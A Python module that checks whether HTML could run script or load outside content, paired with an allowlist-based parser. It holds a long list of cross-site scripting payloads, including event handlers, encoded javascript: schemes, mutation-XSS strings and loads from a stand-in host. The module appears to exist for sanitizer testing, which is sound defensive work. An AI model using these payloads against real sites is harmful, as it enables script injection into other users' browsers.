"""What people send who want something to run in somebody else's browser, and how to see whether it could.

Knows ways that have worked somewhere; refuses to be complete: what matters is that only a few elements come through.
"""

import re
from html import unescape
from html.parser import HTMLParser

_ELEMENTS = {
    *(
        "p",
        "br",
        "hr",
        "h2",
        "h3",
        "h4",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "blockquote",
        "pre",
        "figure",
        "img",
    ),
    *(
        "figcaption",
        "table",
        "caption",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "a",
        "strong",
        "em",
        "b",
        "i",
    ),
    *(
        "u",
        "s",
        "q",
        "cite",
        "code",
        "kbd",
        "samp",
        "var",
        "mark",
        "dfn",
        "abbr",
        "sub",
        "sup",
        "small",
        "del",
        "ins",
    ),
}
_ATTRIBUTES = {"href", "title", "rel", "id", "src", "alt", "loading", "start", "colspan", "rowspan"}
# As browsers read it: signs that cannot be seen do not count.
_SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\-\t\r\n]*):", re.IGNORECASE)
_OURS = re.compile(r"/pictures/[0-9a-f]{16}(?:-[0-9]{1,5})?\.(?:jpg|png|webp)")

_HANDLERS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "p",
    "a href=#",
)
_SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *(
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "\x01javascript:alert(1)",
    ),
    *(" javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>"),
    *("data:text/html;base64,PHNjcmlwdD4=", "javascript://%0aalert(1)", "feed:javascript:alert(1)", "blob:x"),
)
_CARRIERS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}">',
)

HTML_PAYLOADS = (
    *(f"<{tag} {handler}=alert(1)>x" for tag in _TAGS for handler in _HANDLERS),
    *(carrier.format(scheme) for carrier in _CARRIERS for scheme in _SCHEMES),
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<img src='https://evil.example/x.png'>",
    "<img src=x:x onerror=alert(1) //",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img alt='\"onerror=alert(1) x=\"' src='https://x.example/\"onerror=alert(1)'>",
    "<a href='https://x.example/\" onclick=alert(1) x=\"'>x</a>",
    "<a title='\"><script>alert(1)</script>' href=/>x</a>",
    '<a href="//evil.example" target=_blank onclick=alert(1)>x</a>',
    "<p id=main class=frame name=form data-x=1>x</p>",
    "<h2 id='\"><script>alert(1)</script>'>x</h2>",
    "<h2>&lt;script&gt;alert(1)&lt;/script&gt;</h2>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><td>x</table>",
    '{{ product: "><script>alert(1)</script> }}',
)


class _Looks(HTMLParser):
    """Names all that is neither harmless nor ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element that is not among those that may be, or with something that may not."""
        if tag not in _ELEMENTS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            scheme = _SCHEME.match(unescape(value or "")) if name == "href" else None
            if scheme and re.sub(r"\s", "", scheme[1]).lower() not in {"http", "https", "mailto"}:
                self.found.append(f"{tag} {name}={value}")
            if name == "src" and not _OURS.fullmatch(value or ""):
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def what_could_run(html: str) -> list[str]:
    """Whatever in a piece of a page could run, load from elsewhere or style."""
    looks = _Looks()
    looks.feed(html)
    looks.close()
    return looks.found
